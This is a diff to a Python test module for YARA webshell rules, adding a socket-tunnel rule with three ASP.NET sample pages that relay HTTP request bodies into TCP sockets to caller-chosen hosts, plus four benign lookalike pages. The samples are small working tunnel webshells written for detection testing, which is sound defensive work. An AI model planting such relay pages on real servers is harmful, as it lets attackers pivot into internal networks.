@@ -12,8 +12,12 @@ Pages that hand the keys over - printed, sent out, or used as an oracle - stay f
 The collection's two memory-shell injectors (a 2026 write-up's VirtualPathProvider and HttpModule-step
 pages) were found, but only as "runs a process"; ``EXT_WEBSHELL_Memory_Shell_Injector`` names the shape
 (a page hooking a handler into the running pipeline - the shell outlives the file). The pages below hook
-handlers that only echo a fixed word. Written for these tests, with placeholder names and
-example.invalid; never run.
+handlers that only echo a fixed word.
+
+The collection's newest suo5 .NET page (2025 rewrite) was found by the behaviour analysis only and missed
+by signature-base; no YARA rule knew tunnels. ``EXT_WEBSHELL_Socket_Tunnel_Page`` matches the relay shape
+(request body into a TCP socket, the socket's bytes into the response). Written for these tests, with
+placeholder names and example.invalid; never run.
 """
 
 from __future__ import annotations
@@ -214,9 +218,90 @@ MEMSHELL_ORDINARY: list[Page] = [
     ),
 ]
 
+TUNNEL_RULE = "EXT_WEBSHELL_Socket_Tunnel_Page"
+
+TUNNELS: list[Page] = [
+    (
+        "cs-header-commands-socket-relay",
+        ".aspx",
+        _CS + '<%@ Import Namespace="System.Net" %>\n<%@ Import Namespace="System.Net.Sockets" %>\n<%\n'
+        'string op = Request.Headers["X-Op"];\n'
+        'if (op == "open") { var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);\n'
+        '  s.Connect(new IPEndPoint(IPAddress.Parse(Request.Headers["X-Host"]), int.Parse(Request.Headers["X-Port"])));\n'
+        '  Session["s"] = s; }\n'
+        'else if (op == "send") { var s = (Socket)Session["s"]; byte[] b = new byte[Request.ContentLength];\n'
+        "  Request.InputStream.Read(b, 0, b.Length); s.Send(b); }\n"
+        'else if (op == "recv") { var s = (Socket)Session["s"]; byte[] r = new byte[4096];\n'
+        "  int n = s.Receive(r); Response.BinaryWrite(r); }\n%>",
+    ),
+    (
+        "cs-tcpclient-stream-relay",
+        ".aspx",
+        _CS + '<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
+        '  var c = new System.Net.Sockets.TcpClient(); c.Connect(Request.QueryString["h"], 8080);\n'
+        "  var ns = c.GetStream(); var body = Request.BinaryRead(Request.ContentLength);\n"
+        "  ns.Write(body, 0, body.Length); var buf = new byte[8192]; int n = ns.Read(buf, 0, buf.Length);\n"
+        "  Response.OutputStream.Write(buf, 0, n); }\n</script>",
+    ),
+    (
+        "ashx-async-connect-relay",
+        ".ashx",
+        '<%@ WebHandler Language="C#" Class="T" %>\nusing System.Net.Sockets;\n'
+        "public class T : System.Web.IHttpHandler {\n  public bool IsReusable { get { return false; } }\n"
+        "  public void ProcessRequest(System.Web.HttpContext c) {\n"
+        "    var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);\n"
+        '    var r = s.BeginConnect(c.Request.Form["h"], 3389, null, null); r.AsyncWaitHandle.WaitOne(3000, true);\n'
+        "    var inp = c.Request.GetBufferlessInputStream(); var b = new byte[16384]; int n = inp.Read(b, 0, b.Length);\n"
+        "    s.Send(b, 0, n, SocketFlags.None); n = s.Receive(b);\n"
+        "    c.Response.OutputStream.Write(b, 0, n); }\n}",
+    ),
+]
+
+TUNNEL_ORDINARY: list[Page] = [
+    (
+        "port-check-admin-page",
+        ".aspx",
+        _CS + '<script runat="server">\nvoid Check_Click(object s, EventArgs e) {\n'
+        "  var k = new System.Net.Sockets.Socket(System.Net.Sockets.AddressFamily.InterNetwork, "
+        "System.Net.Sockets.SocketType.Stream, System.Net.Sockets.ProtocolType.Tcp);\n"
+        '  try { k.Connect(Request.Form["host"], 443); Response.Write("open"); } catch { Response.Write("closed"); }\n'
+        "  finally { k.Close(); } }\n</script>",
+    ),
+    (
+        "label-printer-feed",
+        ".ashx",
+        '<%@ WebHandler Language="C#" Class="Label" %>\n'
+        "public class Label : System.Web.IHttpHandler {\n  public bool IsReusable { get { return true; } }\n"
+        "  public void ProcessRequest(System.Web.HttpContext c) {\n"
+        '    using (var p = new System.Net.Sockets.TcpClient("printer01.example.invalid", 9100)) {\n'
+        "      var ns = p.GetStream(); var b = new byte[c.Request.ContentLength];\n"
+        "      c.Request.InputStream.Read(b, 0, b.Length); ns.Write(b, 0, b.Length); }\n"
+        '    c.Response.Write("printed"); }\n}',
+    ),
+    (
+        "smtp-test-page",
+        ".aspx",
+        _CS + '<script runat="server">\nvoid Test_Click(object s, EventArgs e) {\n'
+        '  using (var c = new System.Net.Sockets.TcpClient("mail.example.invalid", 25)) {\n'
+        "    var ns = c.GetStream(); var b = new byte[512]; int n = ns.Read(b, 0, b.Length);\n"
+        '    var hi = System.Text.Encoding.ASCII.GetBytes("QUIT\\r\\n"); ns.Write(hi, 0, hi.Length);\n'
+        "    Result.Text = Server.HtmlEncode(System.Text.Encoding.ASCII.GetString(b, 0, n)); } }\n</script>",
+    ),
+    (
+        "upload-echo-no-socket",
+        ".ashx",
+        '<%@ WebHandler Language="C#" Class="Echo" %>\n'
+        "public class Echo : System.Web.IHttpHandler {\n  public bool IsReusable { get { return true; } }\n"
+        "  public void ProcessRequest(System.Web.HttpContext c) {\n"
+        "    var b = new byte[c.Request.ContentLength]; c.Request.InputStream.Read(b, 0, b.Length);\n"
+        '    c.Response.ContentType = "application/octet-stream"; c.Response.BinaryWrite(b); }\n}',
+    ),
+]
+
 CASES: list[RuleCase] = [
     (KEY_RULE, KEY_HANDED_OVER, KEY_ORDINARY),
     (MEMSHELL_RULE, MEMSHELL_INJECTORS, MEMSHELL_ORDINARY),
+    (TUNNEL_RULE, TUNNELS, TUNNEL_ORDINARY),
 ]
 
 test_shell_is_found, test_ordinary_page_is_not_flagged, test_rule_needs_a_server_page = rule_tables(CASES)
